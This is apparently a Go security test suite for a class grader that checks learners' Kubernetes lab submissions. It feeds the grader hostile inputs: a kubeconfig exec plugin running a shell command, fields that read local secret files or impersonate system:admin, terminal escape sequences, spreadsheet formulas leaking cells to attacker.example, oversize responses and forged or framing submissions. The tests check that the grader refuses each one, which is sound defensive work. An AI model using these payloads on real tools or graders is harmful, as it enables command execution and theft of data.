// Package hostile plays the hostile learner of the class grader (issue
// 40): a fake HTTPS API server in the test stands for a learner's
// cluster, and submissions are forged and re-hashed with submission.Write,
// as anyone can. None of it needs a real control plane: what is tested
// is what the grader does with what a learner sends. TestHostileClass
// and the signal tests run the built cnpa (kit.RunWithCnpa: $CNPA_BIN,
// or a build).
//
// Each finding of the review and its tests (docs/class.md has the same
// table, with the tests in other packages):
//   - N1 exec, auth-provider: TestKubeconfigRunsNoCommand, TestHostileClass
//   - N2 file fields, proxy-url, impersonation: TestKubeconfigReadsNoLocalFile, TestHostileClass
//   - N3 size: TestResponseSizeIsLimited, TestOversizeSubmission, TestHostileClass
//   - N4 escapes, N5 formulas: TestNothingRawReachesTerminalOrSheet, TestHostileClass
//   - N6 self-grading: TestInventedChecksCountForNothing, TestHostileClass (unverified)
//   - N7 framing: TestOneLearnerCannotFrameAnother, TestHostileClass
//   - N8 hard links, N9 etcd: internal/safefs, test/kit/cluster
//   - N10 FIFOs: TestReportNeverWaitsOnAFIFO, TestBlockedReadEndsOnTheSecondSignal
//   - N11 one file stops the class: TestOneBadSubmissionNeverStopsTheClass, TestHostileClass
package hostile

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/labhub/cnpa/internal/class"
	"github.com/labhub/cnpa/internal/course"
	"github.com/labhub/cnpa/internal/judge"
	"github.com/labhub/cnpa/internal/submission"
	"github.com/labhub/cnpa/internal/ui"
	"github.com/labhub/cnpa/test/kit/classfixture"
)

// server is a learner's API server: it logs every request's path and
// Authorization header, answers /version with version (a func, so that a
// test can stream), and everything else with a 500 Status.
type server struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
	// certs counts the client certificates the grader sent: it asks for
	// them, and no kubeconfig the grader accepts here has one.
	certs int
	// message is the 500 Status's message for all but /version.
	message string
}

func newServer(t *testing.T, version func(w http.ResponseWriter)) *server {
	s := &server{message: "no"}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.auth = append(s.auth, r.URL.Path+" "+r.Header.Get("Authorization"))
		s.certs += len(r.TLS.PeerCertificates)
		s.mu.Unlock()
		if r.URL.Path == "/version" && version != nil {
			version(w)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(500)
		msg, _ := json.Marshal(s.message)
		fmt.Fprintf(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","message":%s,"code":500}`, msg)
	}))
	s.TLS = &tls.Config{ClientAuth: tls.RequestClientCert}
	s.StartTLS()
	t.Cleanup(s.Close)
	return s
}

// clientCerts is how many client certificates the grader sent.
func (s *server) clientCerts() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.certs
}

func (s *server) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.auth...)
}

// caData is the server's certificate, PEM then base64, as a kubeconfig's
// certificate-authority-data holds it.
func (s *server) caData() string {
	pemCert := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw})
	return base64.StdEncoding.EncodeToString(pemCert)
}

// kubeconfig writes a kubeconfig for s with the given cluster and user
// fields (YAML lines, indented under cluster: and user:).
func kubeconfig(t *testing.T, dir, name string, s *server, cluster, user string) string {
	p := filepath.Join(dir, name+".kubeconfig")
	doc := fmt.Sprintf(`apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: %s
    certificate-authority-data: %s
%s
users:
- name: u
  user:
%s
contexts:
- name: x
  context: {cluster: c, user: u}
current-context: x
`, s.URL, s.caData(), indent(cluster, "    "), indent(user, "    "))
	if err := os.WriteFile(p, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func indent(s, by string) string {
	if s == "" {
		return ""
	}
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for i := range lines {
		lines[i] = by + lines[i]
	}
	return strings.Join(lines, "\n")
}

// learner is one forged learner: a good submission of their own.
func learner(t *testing.T, name string, i int) *submission.Submission {
	c, err := classfixture.Good(name, i)
	if err != nil {
		t.Fatal(err)
	}
	p, err := classfixture.Write(t.TempDir(), c)
	if err != nil {
		t.Fatal(err)
	}
	s, err := submission.Read(p)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// gradeLive grades the learners of reach live, each with a submission.
func gradeLive(t *testing.T, reach []class.Reach) map[string]*class.LiveResult {
	var subs []*submission.Submission
	for i, r := range reach {
		subs = append(subs, learner(t, r.Name, i+1))
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	out, err := class.GradeLive(ctx, &class.ClassFile{Learners: reach}, subs,
		class.LiveOptions{Parallel: 4, Timeout: time.Minute, ProbeTimeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

const fix = "kubectl config view --raw --flatten"

// N1: an exec plugin in a learner's kubeconfig is never run: the file it
// would write does not appear, and the learner's row says why, with the
// fix. auth-provider likewise.
func TestKubeconfigRunsNoCommand(t *testing.T) {
	dir := t.TempDir()
	s := newServer(t, nil)
	pwned := filepath.Join(dir, "pwned")
	exec := fmt.Sprintf(`exec:
  apiVersion: client.authentication.k8s.io/v1
  interactiveMode: Never
  command: sh
  args: [-c, 'id > %s; echo "{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{\"token\":\"t\"}}"']`, pwned)
	out := gradeLive(t, []class.Reach{
		{Name: "mallory", Kubeconfig: kubeconfig(t, dir, "mallory", s, "", exec)},
		{Name: "trent", Kubeconfig: kubeconfig(t, dir, "trent", s, "", "auth-provider: {name: oidc, config: {id-token: x}}")},
	})
	if _, err := os.Stat(pwned); err == nil {
		data, _ := os.ReadFile(pwned)
		t.Errorf("the learner's exec plugin ran on the grader's machine: %s holds %q", pwned, data)
	}
	for name, field := range map[string]string{"mallory": "exec", "trent": "auth-provider"} {
		r := out[name]
		if r == nil || r.Graded != class.GradedUnreachable || !strings.Contains(r.Detail, "learner "+name) ||
			!strings.Contains(r.Detail, field+" is refused") || !strings.Contains(r.Detail, fix) {
			t.Errorf("%s: got %+v, want unreachable naming the learner, %s and the fix", name, r, field)
		}
	}
	if reqs := s.requests(); len(reqs) > 0 {
		t.Errorf("a refused kubeconfig reached the server: %q", reqs)
	}
}

// N2: no field of a learner's kubeconfig makes the grader read a local
// file, go through a proxy or act as another user: each is refused with a
// line naming the learner, the field and the fix, and the grader's own
// secrets never reach the learner's server. An honest learner's inline
// token does.
func TestKubeconfigReadsNoLocalFile(t *testing.T) {
	dir := t.TempDir()
	s := newServer(t, func(w http.ResponseWriter) { fmt.Fprint(w, `{"major":"1","minor":"37","gitVersion":"v1.37.2"}`) })
	secret := filepath.Join(dir, "vault-token")
	os.WriteFile(secret, []byte("s.3cr3t-of-the-instructor\n"), 0o600)
	cert := filepath.Join(dir, "admin.crt")
	os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}), 0o600)
	cases := []struct{ name, cluster, user, field string }{
		{"tf", "", "tokenFile: " + secret, "tokenFile"},
		{"ca", "certificate-authority: " + cert, "token: x", "certificate-authority"},
		{"cc", "", "client-certificate: " + cert + "\nclient-key: " + secret, "client-certificate"},
		{"ck", "", "client-certificate-data: " + base64.StdEncoding.EncodeToString([]byte("x")) + "\nclient-key: " + secret, "client-key"},
		{"px", "proxy-url: http://127.0.0.1:1", "token: x", "proxy-url"},
		{"as", "", "token: x\nas: system:admin", "as"},
		{"ag", "", "token: x\nas-groups: [system:masters]", "as-groups"},
		{"au", "", "token: x\nas-uid: \"0\"", "as-uid"},
		{"ax", "", "token: x\nas: a\nas-user-extra: {k: [v]}", "as-user-extra"},
	}
	reach := []class.Reach{{Name: "honest", Kubeconfig: kubeconfig(t, dir, "honest", s, "", "token: honest-token")}}
	for _, c := range cases {
		reach = append(reach, class.Reach{Name: c.name, Kubeconfig: kubeconfig(t, dir, c.name, s, c.cluster, c.user)})
	}
	out := gradeLive(t, reach)
	for _, c := range cases {
		r := out[c.name]
		if r == nil || r.Graded != class.GradedUnreachable || !strings.Contains(r.Detail, "learner "+c.name+"'s kubeconfig") ||
			!strings.Contains(r.Detail, c.field+" is refused") {
			t.Errorf("%s: got %+v, want a line naming the learner and %s", c.name, r, c.field)
		}
	}
	if r := out["ca"]; r != nil && !strings.Contains(r.Detail, fix) {
		t.Errorf("certificate-authority: %q does not give the fix %q", r.Detail, fix)
	}
	honest := false
	for _, req := range s.requests() {
		if strings.Contains(req, "3cr3t") || strings.Contains(req, "Bearer x") {
			t.Errorf("a refused kubeconfig's credential reached the learner's server: %q", req)
		}
		honest = honest || req == "/version Bearer honest-token"
	}
	if !honest {
		t.Errorf("the honest learner's inline token never reached their server: %q", s.requests())
	}
}

// N3: a learner's server that sends an endless /version is cut off at the
// limit, quickly, with a message naming the learner and the limit, and
// the grader allocates a few times the limit, not what was sent.
func TestResponseSizeIsLimited(t *testing.T) {
	dir := t.TempDir()
	const sent = 1 << 30
	s := newServer(t, func(w http.ResponseWriter) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"gitVersion":"`)
		chunk := []byte(strings.Repeat("a", 64<<10))
		for n := 0; n < sent; n += len(chunk) {
			if _, err := w.Write(chunk); err != nil {
				return // the grader hung up
			}
		}
		fmt.Fprint(w, `"}`)
	})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	out := gradeLive(t, []class.Reach{{Name: "hoarder", Kubeconfig: kubeconfig(t, dir, "hoarder", s, "", "token: t")}})
	took := time.Since(start)
	runtime.ReadMemStats(&after)
	r := out["hoarder"]
	if r == nil || r.Graded != class.GradedUnreachable || !strings.Contains(r.Detail, "learner hoarder's server") || !strings.Contains(r.Detail, "8 MiB") {
		t.Errorf("got %+v, want unreachable, naming the learner's server and the 8 MiB limit", r)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 200<<20 {
		t.Errorf("the grader allocated %d MiB for a server sending 1 GiB: the limit does not hold", alloc>>20)
	}
	if took > 30*time.Second {
		t.Errorf("cutting off the server took %s", took)
	}
	t.Logf("cut off after %s", took)
}

// N3: a submission larger than the cap is refused with a clear error,
// before it is parsed; cnpa submit never writes one.
func TestOversizeSubmission(t *testing.T) {
	c, err := classfixture.Good("big", 1)
	if err != nil {
		t.Fatal(err)
	}
	c.Timelines["timeline-step5.json"] = strings.Repeat("x", submission.MaxSize)
	data, err := submission.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "big.json")
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := submission.Read(p); err == nil || !strings.Contains(err.Error(), "larger than the 8 MiB a submission may be") {
		t.Errorf("a %d MiB submission: got %v, want it refused for its size", len(data)>>20, err)
	}
	if err := submission.Write(filepath.Join(t.TempDir(), "big.json"), c); err == nil || !strings.Contains(err.Error(), "8 MiB") {
		t.Errorf("cnpa submit of a %d MiB submission: got %v, want it refused", len(data)>>20, err)
	}
}

// N11: one bad submission never stops the class: a timeline named "..",
// a file claiming another learner's name, a file that is not a
// submission, each gets its row and flag, and the honest learners are
// graded as ever.
func TestOneBadSubmissionNeverStopsTheClass(t *testing.T) {
	dir := t.TempDir()
	write := func(file string, c *submission.Content) {
		if err := submission.Write(filepath.Join(dir, file), c); err != nil {
			t.Fatal(err)
		}
	}
	for i, name := range []string{"alice", "gina"} {
		c, err := classfixture.Good(name, i+1)
		if err != nil {
			t.Fatal(err)
		}
		write(name+".json", c)
	}
	dots, err := classfixture.Good("dot", 3)
	if err != nil {
		t.Fatal(err)
	}
	dots.Timelines[".."] = "{}"
	dots.Timelines["timeline-step5.json.bak"] = "{}"
	write("dot.json", dots)
	framer, err := classfixture.Good("gina", 4)
	if err != nil {
		t.Fatal(err)
	}
	write("aa-mallory.json", framer)
	os.WriteFile(filepath.Join(dir, "notes.json"), []byte(`{"hello": "instructor"}`), 0o644)

	subs, bad, err := class.Load([]string{dir})
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now(), Unreadable: bad})
	if err != nil {
		t.Fatalf("Grade: %v", err)
	}
	rows := map[string][]*class.Learner{}
	for _, l := range gb.Learners {
		rows[l.Name] = append(rows[l.Name], l)
	}
	if a := rows["alice"]; len(a) != 1 || a[0].StepsPassed != class.Steps || len(a[0].Flags) != 0 {
		t.Errorf("alice, honest: got %+v", a)
	}
	if d := rows["dot"]; len(d) != 1 || !strings.Contains(d[0].FlagList(), class.FlagTampered) || !strings.Contains(flagDetails(d[0]), `".."`) {
		t.Errorf("dot, a timeline named \"..\": got %+v", d)
	}
	if g := rows["gina"]; len(g) != 2 || !strings.Contains(g[0].FlagList(), class.FlagDuplicate) || !strings.Contains(g[1].FlagList(), class.FlagDuplicate) {
		t.Errorf("gina, claimed by two files: got %d rows %+v", len(g), g)
	}
	if n := rows["notes.json"]; len(n) != 1 || n[0].Graded != class.GradedUnreadable || n[0].FlagList() != class.FlagUnreadable {
		t.Errorf("notes.json, not a submission: got %+v", n)
	}
}

func flagDetails(l *class.Learner) string {
	var b strings.Builder
	for _, f := range l.Flags {
		b.WriteString(f.Detail + "\n")
	}
	return b.String()
}

// N4 and N5: nothing a learner or their server writes reaches the
// instructor's terminal or spreadsheet raw. A name with terminal escapes
// and a kube_system_uid holding a formula are refused when read (their
// files get unreadable rows); a server's 500 whose message retitles the
// window and clears the screen is printed escaped; names that start
// like formulas are written to the CSV prefixed with '.
func TestNothingRawReachesTerminalOrSheet(t *testing.T) {
	dir, subsDir := t.TempDir(), t.TempDir()
	const escapes = "\x1b]0;OWNED\x07\x1b[2J\x1b[H all graded, 0 flagged"
	s := newServer(t, func(w http.ResponseWriter) { fmt.Fprint(w, `{"major":"1","minor":"37","gitVersion":"v1.37.2"}`) })
	s.message = escapes
	write := func(file string, c *submission.Content) {
		if err := submission.Write(filepath.Join(subsDir, file), c); err != nil {
			t.Fatal(err)
		}
	}
	var reach []class.Reach
	for i, name := range []string{"=HYPERLINK(\"https://attacker.example/?leak=\"&A3&B3,\"x\")", "@SUM(A1)", "+1", "-1", "erin"} {
		c, err := classfixture.Good(name, i+1)
		if err != nil {
			t.Fatal(err)
		}
		write(fmt.Sprintf("l%d.json", i), c)
		reach = append(reach, class.Reach{Name: name, Kubeconfig: kubeconfig(t, dir, fmt.Sprintf("l%d", i), s, "", "token: t")})
	}
	carol, err := classfixture.Good("carol"+escapes, 9)
	if err != nil {
		t.Fatal(err)
	}
	write("carol.json", carol)
	formula, err := classfixture.Good("frank", 10)
	if err != nil {
		t.Fatal(err)
	}
	formula.Cluster.KubeSystemUID = `=HYPERLINK("https://attacker.example/?leak="&A3&B3,"uid")`
	write("frank.json", formula)

	subs, bad, err := class.Load([]string{subsDir})
	if err != nil {
		t.Fatal(err)
	}
	if len(bad) != 2 {
		t.Errorf("got %d unreadable files, want carol's (a name with escapes) and frank's (a uid that is a formula): %v", len(bad), bad)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	live, err := class.GradeLive(ctx, &class.ClassFile{Learners: reach}, subs, class.LiveOptions{Parallel: 4, Timeout: time.Minute, ProbeTimeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if r := live["erin"]; r == nil || !strings.Contains(r.Detail, "OWNED") {
		t.Fatalf("erin's server's message is not in her row: %+v", r)
	}
	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now(), Live: live, Unreadable: bad})
	if err != nil {
		t.Fatal(err)
	}
	var text, sheet strings.Builder
	class.WriteText(ui.New(&text, true), gb)
	if err := class.WriteCSV(&sheet, gb); err != nil {
		t.Fatal(err)
	}
	for what, out := range map[string]string{"text": text.String(), "csv": sheet.String()} {
		for i, r := range out {
			if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 {
				t.Errorf("%s output holds the control character %U at %d: ...%q...", what, r, i, out[max(0, i-40):min(len(out), i+40)])
				break
			}
		}
		if !strings.Contains(out, `\x1b]0;OWNED`) {
			t.Errorf("%s output does not show the server's message escaped:\n%s", what, out)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(sheet.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a CSV cell a spreadsheet takes for a formula: %q", cell)
			}
		}
	}
	if !strings.Contains(sheet.String(), `'=HYPERLINK(`) || !strings.Contains(sheet.String(), "\n'@SUM(A1),") {
		t.Errorf("the names that start like formulas are not escaped with ':\n%s", sheet.String())
	}
}

// N6: a learner cannot grade themselves with checks the lab does not
// define: 300 invented passing checks, and a probe's check recorded
// twice and at another step, count for nothing and flag the submission
// tampered; the score is the honest one.
func TestInventedChecksCountForNothing(t *testing.T) {
	honest, err := classfixture.Good("hal", 1)
	if err != nil {
		t.Fatal(err)
	}
	forged, err := classfixture.Good("mal", 2)
	if err != nil {
		t.Fatal(err)
	}
	for i := range 300 {
		forged.Checks = append(forged.Checks, judge.Check{ID: fmt.Sprintf("extra.%d", i), Step: 1 + i%8, Status: judge.Pass})
	}
	var probe judge.Check
	for _, c := range forged.Checks {
		if c.ID == course.Steps.Grader().ProbeIDs()[0] {
			probe = c
		}
	}
	probe.Step = 8
	forged.Checks = append(forged.Checks, probe)
	forged.Passed += 301
	dir := t.TempDir()
	for _, c := range []*submission.Content{honest, forged} {
		if _, err := classfixture.Write(dir, c); err != nil {
			t.Fatal(err)
		}
	}
	subs, bad, err := class.Load([]string{dir})
	if err != nil || len(bad) > 0 {
		t.Fatalf("Load: %v %v", bad, err)
	}
	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	by := map[string]*class.Learner{}
	for _, l := range gb.Learners {
		by[l.Name] = l
	}
	h, m := by["hal"], by["mal"]
	if m.ChecksPassed != h.ChecksPassed || m.ChecksTotal != h.ChecksTotal {
		t.Errorf("the forged submission scores %d/%d checks, the honest one %d/%d", m.ChecksPassed, m.ChecksTotal, h.ChecksPassed, h.ChecksTotal)
	}
	if !strings.Contains(m.FlagList(), class.FlagTampered) || !strings.Contains(flagDetails(m), `"extra.0" (not a check of the lab)`) ||
		!strings.Contains(flagDetails(m), course.Steps.Grader().ProbeIDs()[0]+" (recorded twice)") {
		t.Errorf("the forged submission: flags %q\n%s", m.FlagList(), flagDetails(m))
	}
	if len(h.Flags) != 0 {
		t.Errorf("the honest submission is flagged: %s", h.FlagList())
	}
}

// N7: one learner cannot frame another as the copier. mallory puts
// gina's alpha uid in her evidence and in the facts of her run, and
// re-hashes: both claim the object, so neither is named the source, and
// both are flagged shares-uids-with; gina is never copied-from:mallory.
func TestOneLearnerCannotFrameAnother(t *testing.T) {
	gina, err := classfixture.Good("gina", 1)
	if err != nil {
		t.Fatal(err)
	}
	mallory, err := classfixture.Good("mallory", 2)
	if err != nil {
		t.Fatal(err)
	}
	ginaAlpha, malloryAlpha := string(gina.Facts.Alpha.UID), string(mallory.Facts.Alpha.UID)
	for f, text := range mallory.Evidence {
		mallory.Evidence[f] = strings.ReplaceAll(text, malloryAlpha, ginaAlpha)
	}
	mallory.Facts.Alpha.UID = gina.Facts.Alpha.UID
	for i := range mallory.Facts.TeamAlpha.OwnerReferences {
		mallory.Facts.TeamAlpha.OwnerReferences[i].UID = gina.Facts.Alpha.UID
	}
	if err := classfixture.Record(mallory); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := submission.Write(filepath.Join(dir, "gina.json"), gina); err != nil {
		t.Fatal(err)
	}
	if err := submission.Write(filepath.Join(dir, "zz-mallory.json"), mallory); err != nil {
		t.Fatal(err)
	}
	subs, bad, err := class.Load([]string{dir})
	if err != nil || len(bad) > 0 {
		t.Fatalf("Load: %v %v", bad, err)
	}
	gb, err := class.Grade(subs, class.Options{Version: classfixture.Version, Now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range gb.Learners {
		other := map[string]string{"gina": "mallory", "mallory": "gina"}[l.Name]
		if got := l.FlagList(); strings.Contains(got, class.FlagCopiedFrom) || strings.Contains(got, class.FlagCopiedBy) ||
			!strings.Contains(got, class.FlagSharesUIDs+":"+other) {
			t.Errorf("%s: flags %q, want shares-uids-with:%s and no copied-from or copied-by", l.Name, got, other)
		}
	}
}
